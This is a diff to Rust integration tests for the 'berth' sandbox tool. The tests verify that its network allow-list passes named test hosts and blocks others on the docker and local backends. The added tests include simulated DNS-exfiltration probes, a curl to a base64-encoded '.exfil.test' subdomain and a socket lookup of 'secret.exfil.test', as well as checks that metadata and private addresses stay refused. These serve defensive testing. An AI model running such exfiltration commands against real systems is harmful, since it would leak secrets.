@@ -112,14 +112,18 @@ impl Inet {
         if !nix::unistd::geteuid().is_root() {
             return Err("the egress test makes a network namespace, which needs root".into());
         }
-        // A /30 of its own per process, so runs side by side do not meet.
-        let k = (std::process::id() % 60) * 4;
+        // A /30 and names of its own per process and test, so runs side by
+        // side do not meet.
+        static NEXT: std::sync::atomic::AtomicU32 = std::sync::atomic::AtomicU32::new(0);
+        let n = NEXT.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
+        let tag = format!("{}x{n}", std::process::id());
+        let k = ((std::process::id() * 7 + n) % 60) * 4;
         let (host_ip, addr) = (
             format!("198.51.100.{}", k + 1),
             format!("198.51.100.{}", k + 2),
         );
-        let ns = format!("berth-inet-{}", std::process::id());
-        let host_if = format!("bi{}", std::process::id());
+        let ns = format!("berth-inet-{tag}");
+        let host_if = format!("bi{tag}");
         run("ip", &["netns", "add", &ns])?;
         let www = tempfile::tempdir()?;
         let mut me = Inet {
@@ -302,13 +306,28 @@ fn net_events(st: &State, name: &str) -> Result<Vec<Value>, BoxError> {
 
 #[test]
 fn docker_allow_list_lets_named_hosts_through_and_confines_the_rest() -> TestResult {
+    allow_list_on("docker")
+}
+
+#[test]
+fn local_allow_list_lets_named_hosts_through_and_confines_the_rest() -> TestResult {
+    allow_list_on("local")
+}
+
+fn allow_list_on(backend: &'static str) -> TestResult {
     let inet = Inet::up()?;
     let mut st = State::new("auto")?;
+    st.backend = backend;
     st.env.push(("BERTH_EGRESS_HOSTS".into(), inet.hosts()));
     let name = unique("egress");
     st.create(
         &name,
-        &["--network", "allow:pypi.test,git.test,secure.test:8443"],
+        // meta.test and intranet.test are allowed by name, and resolve to
+        // metadata and a private address: refused all the same.
+        &[
+            "--network",
+            "allow:pypi.test,git.test,secure.test:8443,meta.test,intranet.test",
+        ],
     )?;
 
     // Allowed names: curl, pip from the test index, git over HTTP, HTTPS
@@ -321,9 +340,9 @@ fn docker_allow_list_lets_named_hosts_through_and_confines_the_rest() -> TestRes
     );
     let o = st.exec(
         &name,
-        "python3 -m venv /tmp/v && /tmp/v/bin/pip install -q --disable-pip-version-check \
+        "python3 -m venv v && v/bin/pip install -q --disable-pip-version-check \
          --index-url http://pypi.test:8080/simple/ --trusted-host pypi.test berthdemo \
-         && /tmp/v/bin/python -c 'import berthdemo; print(berthdemo.GREETING)'",
+         && v/bin/python -c 'import berthdemo; print(berthdemo.GREETING)'",
     )?;
     assert!(
         text(&o).contains("hello from the test index"),
@@ -332,7 +351,7 @@ fn docker_allow_list_lets_named_hosts_through_and_confines_the_rest() -> TestRes
     );
     let o = st.exec(
         &name,
-        "git clone -q http://git.test:8080/repo.git /tmp/repo && cat /tmp/repo/README",
+        "git clone -q http://git.test:8080/repo.git repo && cat repo/README",
     )?;
     assert!(
         text(&o).contains("cloned through berth's proxy"),
@@ -387,7 +406,15 @@ fn docker_allow_list_lets_named_hosts_through_and_confines_the_rest() -> TestRes
         "{}",
         text(&o)
     );
-    // DNS exfiltration: a lookup has nowhere to go.
+    // DNS exfiltration through the proxy: a name in no rule is never
+    // looked up.
+    let o = st.exec(&name, "curl -sS http://c2VjcmV0.exfil.test/")?;
+    assert!(
+        text(&o).contains("(mode allow)") && text(&o).contains("not looked up"),
+        "{}",
+        text(&o)
+    );
+    // DNS exfiltration from inside: a lookup has nowhere to go.
     let o = st.exec(
         &name,
         "python3 -c 'import socket; socket.getaddrinfo(\"secret.exfil.test\", 80)'",
@@ -424,7 +451,7 @@ fn docker_allow_list_lets_named_hosts_through_and_confines_the_rest() -> TestRes
         "allow",
         "other.test",
         "-b",
-        "docker",
+        backend,
         "--json",
     ])?;
     let v: Value = serde_json::from_str(&out)?;
@@ -447,22 +474,22 @@ fn docker_allow_list_lets_named_hosts_through_and_confines_the_rest() -> TestRes
         "deny",
         "pypi.test",
         "-b",
-        "docker",
+        backend,
     ])?;
     let o = st.exec(&name, "curl -sS http://pypi.test:8080/index.txt")?;
     assert!(text(&o).contains("(deny: pypi.test)"), "{}", text(&o));
 
-    // A clone keeps the rules; a clone to a backend that cannot enforce
-    // them fails and says why (never a sandbox with the network on).
+    // A clone keeps the rules, on its own backend and on the other one
+    // that can hold a door.
     let copy = unique("egress-clone");
-    st.owns(&copy);
-    st.ok(&["sandbox", "clone", &name, &copy, "-b", "docker"])?;
+    st.owns(&copy, backend);
+    st.ok(&["sandbox", "clone", &name, &copy, "-b", backend])?;
     let v: Value =
-        serde_json::from_str(&st.ok(&["sandbox", "inspect", &copy, "-b", "docker", "--json"])?)?;
-    assert!(
-        v.to_string().contains("other.test") && v["container"]["settings"]["network"] == "none",
-        "{v}"
-    );
+        serde_json::from_str(&st.ok(&["sandbox", "inspect", &copy, "-b", backend, "--json"])?)?;
+    assert!(v.to_string().contains("other.test"), "{v}");
+    if backend == "docker" {
+        assert_eq!(v["container"]["settings"]["network"], "none", "{v}");
+    }
     let o = st.exec(&copy, "curl -sS http://other.test:8080/index.txt")?;
     assert!(
         text(&o).contains("hello from the test internet"),
@@ -471,21 +498,49 @@ fn docker_allow_list_lets_named_hosts_through_and_confines_the_rest() -> TestRes
     );
     let o = st.exec(&copy, "curl -sS http://pypi.test:8080/index.txt")?;
     assert!(text(&o).contains("(deny: pypi.test)"), "{}", text(&o));
-    let o = st.run(&[
-        "sandbox",
-        "clone",
-        &name,
-        &unique("egress-local"),
-        "-b",
-        "docker",
-        "--to",
-        "local",
+    let other = if backend == "docker" {
+        "local"
+    } else {
+        "docker"
+    };
+    let moved = unique("egress-moved");
+    st.owns(&moved, other);
+    st.ok(&[
+        "sandbox", "clone", &name, &moved, "-b", backend, "--to", other,
     ])?;
-    assert_ne!(o.status.code(), Some(0), "{}", text(&o));
+    let o = st.run(&[
+        "exec",
+        "-b",
+        other,
+        "-s",
+        &moved,
+        "--",
+        "curl -sS http://other.test:8080/index.txt; curl -sS http://pypi.test:8080/index.txt",
+    ])?;
     assert!(
-        text(&o).contains("local sandboxes cannot have `--network allow:`"),
-        "{}",
+        text(&o).contains("hello from the test internet") && text(&o).contains("(deny: pypi.test)"),
+        "the clone on {other}: {}",
         text(&o)
+    );
+    // A background job reaches its hosts through the door too.
+    let o = st.ok(&[
+        "job",
+        "start",
+        "-b",
+        backend,
+        "-s",
+        &name,
+        "--name",
+        "fetch",
+        "--",
+        "curl -sS http://other.test:8080/index.txt",
+    ])?;
+    let id = o.trim().to_string();
+    let waited = st.ok(&["job", "wait", &id, "--timeout", "60"]);
+    let logs = st.ok(&["job", "logs", &id])?;
+    assert!(
+        logs.contains("hello from the test internet"),
+        "job {id}: {waited:?} {logs}"
     );
 
     // A new server opens the door again.
@@ -510,15 +565,35 @@ fn a_bad_network_flag_or_a_backend_without_a_door_is_refused_with_why() -> TestR
         "{}",
         text(&o)
     );
-    let o = st.run(&["sandbox", "create", "x", "--network", "allow:pypi.org"])?;
+    // A backend that cannot hold a door says why, and records nothing.
+    let o = st.run(&[
+        "sandbox",
+        "create",
+        "x",
+        "-b",
+        "ssh",
+        "--network",
+        "allow:pypi.org",
+    ])?;
     assert_ne!(o.status.code(), Some(0), "{}", text(&o));
     assert!(
-        text(&o).contains("local sandboxes cannot have `--network allow:`"),
+        text(&o).contains("that host's own network and firewall apply"),
+        "{}",
+        text(&o)
+    );
+    // An unrestricted local sandbox could not be held to the rules.
+    let o = berth_unrestricted(
+        &st,
+        &["sandbox", "create", "x", "--network", "allow:pypi.org"],
+    )?;
+    assert_ne!(o.status.code(), Some(0), "{}", text(&o));
+    assert!(
+        text(&o).contains("without kernel restrictions"),
         "{}",
         text(&o)
     );
     // Nothing was recorded for the refused sandbox.
-    let ls = st.ok(&["sandbox", "ls", "--json"])?;
+    let ls = st.ok(&["sandbox", "ls", "--all", "--json"])?;
     assert!(!ls.contains("\"x\""), "{ls}");
     // Rules change only on a sandbox whose way out is the proxy.
     st.ok(&["sandbox", "create", "plain"])?;
@@ -526,4 +601,12 @@ fn a_bad_network_flag_or_a_backend_without_a_door_is_refused_with_why() -> TestR
     assert_ne!(o.status.code(), Some(0), "{}", text(&o));
     assert!(text(&o).contains("has network off"), "{}", text(&o));
     Ok(())
+}
+
+/// `berth ARGS` in `st`'s state dir with the local sandbox unrestricted.
+fn berth_unrestricted(st: &State, args: &[&str]) -> Result<std::process::Output, BoxError> {
+    let mut st2 = State::new("off")?;
+    st2.env = st.env.clone();
+    st2.env.push(("BERTH_UNRESTRICTED".into(), "1".into()));
+    Ok(st2.run(args)?)
 }
